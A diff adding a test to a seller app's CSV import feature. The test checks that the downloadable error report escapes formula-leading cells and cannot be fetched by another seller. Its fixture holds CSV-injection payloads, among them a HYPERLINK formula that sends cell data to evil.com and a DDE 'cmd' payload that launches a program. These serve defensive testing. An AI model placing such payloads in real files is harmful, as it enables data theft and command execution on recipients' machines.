@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ApiClient } from '../../../tests/support/client';
 import { startTestApp, type TestApp } from '../../../tests/support/app';
@@ -151,5 +152,42 @@ describe('CSV import', () => {
     other.csrfToken = reg.body.csrfToken;
     expect((await other.get(`/api/seller/imports/${id}`)).status).toBe(404);
     expect((await new ApiClient(app.url).get('/api/seller/imports')).status).toBe(401);
+  });
+
+  it('offers the row errors as a CSV that reads back as the errors and runs no formula', async () => {
+    const csv = [
+      'sku,name,category,price,stock,attributes',
+      `X-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",=cmd|' /C calc'!A0,10,1,`,
+      `X-2,Plain,${leaf},10,1,"@SUM(1,2)"`,
+      `X-3,Minus,${leaf},-10,1,`,
+    ].join('\n');
+    const done = await finished((await upload(csv, '=report.csv')).body.id);
+    expect(done.failed).toBe(3);
+
+    const res = await seller.get(`/api/seller/imports/${done.id}/errors.csv`);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(res.headers.get('content-disposition')).toContain('_report-errors.csv');
+    const rows = parse(res.body as string) as string[][];
+    expect(rows[0]).toEqual(['line', 'column', 'error']);
+    const expected = (done.errors as { line: number; field: string; message: string }[]).map((e) => [
+      String(e.line),
+      e.field,
+      /^[=+\-@\t\r]/.test(e.message) ? `'${e.message}` : e.message,
+    ]);
+    expect(rows.slice(1)).toEqual(expected);
+    expect(rows.slice(1).map((r) => r[0])).toEqual(['2', '3', '4']);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    const stranger = new ApiClient(app.url);
+    const reg = await stranger.post('/api/auth/register', {
+      email: `stranger${Date.now()}@example.com`,
+      password: 'long enough',
+      name: 'Stranger',
+      role: 'seller',
+      shopName: 'Other Co',
+    });
+    stranger.csrfToken = reg.body.csrfToken;
+    expect((await stranger.get(`/api/seller/imports/${done.id}/errors.csv`)).status).toBe(404);
   });
 });
